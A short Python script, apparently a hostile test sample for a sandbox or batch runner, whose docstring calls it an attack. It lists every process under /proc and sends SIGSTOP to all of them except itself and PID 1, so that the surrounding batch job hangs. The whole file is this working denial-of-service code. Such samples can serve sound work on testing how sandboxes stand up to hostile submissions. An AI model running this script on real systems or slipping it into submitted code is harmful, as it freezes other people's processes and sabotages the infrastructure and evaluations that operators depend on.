"""Attack: SIGSTOP every process it can see but itself, so the batch hangs."""

import os
import signal
import time

for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
time.sleep(1)
